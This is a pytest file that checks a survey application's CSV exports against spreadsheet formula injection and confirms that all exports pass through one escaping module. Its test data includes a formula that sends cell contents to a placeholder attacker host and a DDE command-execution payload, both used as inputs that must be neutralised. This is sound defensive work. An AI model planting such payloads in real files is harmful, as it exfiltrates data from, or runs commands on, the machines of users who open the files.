"""Spreadsheets the product writes never carry a live formula (issue 8, kind 4b).

OWASP's CSV-injection rule: a cell beginning with = + - @ tab or CR is
written with a single quote in front. One module writes every spreadsheet
(app/spreadsheets.py); the last tests fail if another module could write one
around it.
"""

from __future__ import annotations

import ast
import csv
import io
import unicodedata
from datetime import date, timedelta
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from app.accounts.models import Role
from app.campaigns.services import create_campaign
from app.db import db_session
from app.organisation.models import Programme, Provider
from app.spreadsheets import csv_text, safe_cell
from app.surveys.services import load_builtin

from .conftest import ROOT, csrf_token_from, login, stockholm_today
from .forms import hidden_fields

ISSUE_EXAMPLE = '=HYPERLINK("http://evil.example/?d="&A2,"Öppna")'


def read_back(text: str) -> list[list[str]]:
    """What a CSV reader sees: the file as the browser saved it, BOM and all."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("typed, written", [
    (ISSUE_EXAMPLE, "'" + ISSUE_EXAMPLE),
    ("=1+1", "'=1+1"),
    ("+46 70 123 45 67", "'+46 70 123 45 67"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tNordljus", "'\tNordljus"),
    (" =1+1", "' =1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\u200b=1+1", "'\u200b=1+1"),
    ("\uff1dHYPERLINK(\"x\")", "'\uff1dHYPERLINK(\"x\")"),
    ('=cmd|" /C calc"!A0', '\'=cmd|" /C calc"!A0'),
    ("Nordljus AB", "Nordljus AB"),
    ("Ångström Coaching", "Ångström Coaching"),
    ("AB Bro-Coachning = bäst", "AB Bro-Coachning = bäst"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    ("https://enkat.example.se/s/AbC-12", "https://enkat.example.se/s/AbC-12"),
    # A piece after the list separator of Swedish Excel (";") or of others (","), and
    # the small and minus forms (breaker's findings, 2026-11-30).
    ("Evil AB;=1+1", "'Evil AB;=1+1"),
    ("P, -2+3", "'P, -2+3"),
    ("\ufe661+1 AB", "'\ufe661+1 AB"),
    ("\u22122+3", "'\u22122+3"),
    ("Bro; Coachning, Nord", "Bro; Coachning, Nord"),
])
def test_a_cell_that_could_start_a_formula_gets_a_quote(typed, written):
    assert read_back(csv_text([[typed]])) == [[written]]


def test_numbers_dates_and_nothing():
    assert read_back(csv_text([[-5, 2.5, date(2026, 11, 30), None]])) == [["-5", "2.5", "2026-11-30", ""]]
    with pytest.raises(TypeError):
        safe_cell(True)
    with pytest.raises(TypeError):
        safe_cell(["=1"])


def _first_shown(text: str) -> str:
    # The first character that is neither white space nor invisible (categories Z*, C*).
    for character in text:
        if not (character.isspace() or unicodedata.category(character)[0] in "ZC"):
            return character
    return ""


@given(st.lists(st.text(max_size=40), min_size=1, max_size=6))
def test_no_cell_read_back_can_start_a_formula(row):
    [cells] = read_back(csv_text([row]))
    assert len(cells) == len(row)
    for typed, cell in zip(row, cells):
        # Nothing is changed but a quote in front ...
        assert cell in (typed, "'" + typed)
        # ... which every cell that could run as a formula has ...
        assert cell[:1] not in ("\t", "\r")
        assert _first_shown(cell) not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
        # ... and text beginning with a letter or digit never gets.
        if typed[:1].isalnum():
            assert cell == typed


@pytest.fixture
def admin_client(app, client, make_user):
    make_user(Role.ADMIN, "root")
    login(client, "root")
    return client


def _add_through_the_staff_pages(client, provider_name: str, programme_code: str) -> None:
    page = client.get("/staff/organisation/").get_data(as_text=True)
    added = client.post("/staff/organisation/providers", data={
        "csrf_token": csrf_token_from(page), **hidden_fields(page, "/staff/organisation/providers"),
        "provider-name": provider_name,
    })
    assert added.status_code == 303, added.get_data(as_text=True)
    added = client.post("/staff/organisation/programmes", data={
        "csrf_token": csrf_token_from(page), **hidden_fields(page, "/staff/organisation/programmes"),
        "programme-code": programme_code, "programme-name": "Formler",
    })
    assert added.status_code == 303, added.get_data(as_text=True)


def _campaign_of(app, provider_name: str, programme_code: str) -> tuple[int, int, int]:
    with app.app_context():
        version = next(v for v in load_builtin(db_session) if v.key == "nacka-arbetsmarknad")
        provider = db_session.scalar(select(Provider).where(Provider.name == provider_name))
        programme = db_session.scalar(select(Programme).where(Programme.code == programme_code))
        campaign = create_campaign(
            db_session, name="Formler", survey_version=version,
            starts_on=stockholm_today() - timedelta(days=1), ends_on=stockholm_today() + timedelta(days=10),
            providers=[provider], programmes=[programme], languages=["sv", "ar"],
        )
        db_session.commit()
        return campaign.id, provider.id, programme.id


def _export(client, campaign_id: int, provider_id: int, programme_id: int, count: int = 2) -> list[list[str]]:
    page = client.get(f"/staff/campaigns/{campaign_id}").get_data(as_text=True)
    action = f"/staff/campaigns/{campaign_id}/invitations"
    made = client.post(action, data={
        **hidden_fields(page, action), "provider": provider_id, "programme": programme_id,
        "language": "ar", "count": count,
    })
    assert made.status_code == 303
    # The links page offers the CSV beside it: /staff/campaigns/<id>/links/<batch>.csv
    download = client.get(urlsplit(made.headers["Location"]).path + ".csv")
    assert download.status_code == 200
    assert download.mimetype == "text/csv"
    return read_back(download.get_data(as_text=True))


def test_the_issue_example_is_no_formula_in_the_links_csv(app, admin_client):
    _add_through_the_staff_pages(admin_client, ISSUE_EXAMPLE, "-SO+1")
    campaign_id, provider_id, programme_id = _campaign_of(app, ISSUE_EXAMPLE, "-SO+1")
    rows = _export(admin_client, campaign_id, provider_id, programme_id)
    assert rows[0] == ["provider", "programme", "language", "link"]
    assert len(rows) == 3
    for row in rows[1:]:
        assert row[0] == '\'=HYPERLINK("http://evil.example/?d="&A2,"Öppna")'
        assert row[1] == "'-SO+1"
        assert row[2] == "ar"
        assert row[3].startswith("https://enkat.example.se/s/")


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), min_size=1, max_size=60)
       .filter(lambda text: text.strip() != ""))
def test_any_provider_name_reaches_the_links_csv_as_text(app, world, admin_client, name):
    with app.app_context():
        provider = db_session.get(Provider, world.provider_ids[0])
        provider.name = name
        db_session.commit()
        # As stored: NFC, white space as typed names keep it (app/text.py typed_name).
        name = provider.name
    assume(name)
    [_, row] = _export(admin_client, world.campaign_id, world.provider_ids[0], world.programme_ids[0], count=1)
    assert row[0] in (name, "'" + name)
    assert _first_shown(row[0]) not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert row[0][:1] not in ("\t", "\r")


# --- No export may go around app/spreadsheets.py -------------------------------

#: Modules that write spreadsheets. csv may be imported for reading only.
WRITER_MODULES = ("csv", "openpyxl", "xlsxwriter", "xlwt", "pandas", "polars", "tablib", "pyexcel", "odf", "ezodf")
READING_NAMES = {
    "csv": {"reader", "DictReader", "Sniffer", "Error", "field_size_limit"},
    "openpyxl": {"load_workbook"},
}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel", "opendocument.spreadsheet", "text/tab-separated-values")


def spreadsheet_writers(source: str) -> list[str]:
    """What in `source` (Python code) could write a spreadsheet without app/spreadsheets.py."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names if alias.name.split(".")[0] in WRITER_MODULES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            top = node.module.split(".")[0]
            if top in WRITER_MODULES:
                allowed = READING_NAMES.get(node.module, set())
                found += [f"{node.module}.{alias.name}" for alias in node.names if alias.name not in allowed]
        elif isinstance(node, ast.Call) and node.args and isinstance(node.args[0], ast.Constant):
            called = ast.unparse(node.func)
            if called in ("importlib.import_module", "import_module", "__import__") and \
                    str(node.args[0].value).split(".")[0] in WRITER_MODULES:
                found.append(f"{called}({node.args[0].value!r})")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str):
            found += [kind for kind in SPREADSHEET_TYPES if kind in node.value]
        elif isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "writerow", "writerows"):
            found.append(node.attr)
    return found


@pytest.mark.parametrize("source, flagged", [
    ("import csv", True),
    ("import csv as sheet", True),
    ("from csv import writer", True),
    ("from csv import DictWriter, reader", True),
    ("from openpyxl import Workbook", True),
    ("from openpyxl.workbook import Workbook", True),
    ("import xlsxwriter", True),
    ("importlib.import_module('csv')", True),
    ("Response(data, mimetype='text/csv')", True),
    ("frame.to_csv(buffer)", True),
    ("out.writerow(row)", True),
    ("from csv import reader, DictReader", False),
    ("from openpyxl import load_workbook", False),
    ("from .spreadsheets import csv_response", False),
    ("import json", False),
])
def test_the_check_itself(source, flagged):
    assert bool(spreadsheet_writers(source)) is flagged


def test_only_app_spreadsheets_writes_spreadsheets():
    shared = ROOT / "app" / "spreadsheets.py"
    offenders = {}
    for path in sorted((ROOT / "app").rglob("*.py")):
        if path != shared:
            found = spreadsheet_writers(path.read_text(encoding="utf-8"))
            if found:
                offenders[str(path.relative_to(ROOT))] = found
    assert offenders == {}, "write spreadsheets through app/spreadsheets.py"
    assert spreadsheet_writers(shared.read_text(encoding="utf-8"))  # the shared module is seen by the check



def test_every_text_field_is_quoted_so_a_separator_inside_never_splits_it():
    # Swedish Excel splits on ";": inside quotes it does not.
    assert csv_text([["Evil AB;x", 5, "a"]]) == '\ufeff"Evil AB;x",5,"a"\r\n'
